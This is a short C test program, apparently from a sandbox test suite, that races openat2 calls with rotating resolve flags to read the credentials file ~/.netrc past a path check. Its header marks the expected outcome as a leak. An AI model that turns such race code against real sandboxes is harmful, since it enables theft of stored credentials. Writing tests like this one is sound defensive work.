// The same as race-replaced by openat2, whose flags take another way through the supervisor.
// class: OS sandboxes: a race between the check and the use of a path
// plain: leak
// act: replace
// flags: --read {HOME}
// journal: read {HOME}/.netrc
#include "race.h"

#include <linux/openat2.h>

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const uint64_t ways[] = {RESOLVE_BENEATH, RESOLVE_IN_ROOT, RESOLVE_NO_SYMLINKS,
                           RESOLVE_NO_MAGICLINKS};
  const int home = open(fact("HOME"), O_PATH | O_DIRECTORY);
  for (int i = 0; race_goes_on(i, 40000); ++i) {
    struct open_how how = {.flags = O_RDONLY, .resolve = ways[i % 4]};
    const int fd = (int)syscall(SYS_openat2, home, ".netrc", &how, sizeof how);
    if (fd < 0) continue;
    drain(fd);
    close(fd);
    break;
  }
  return 0;
}
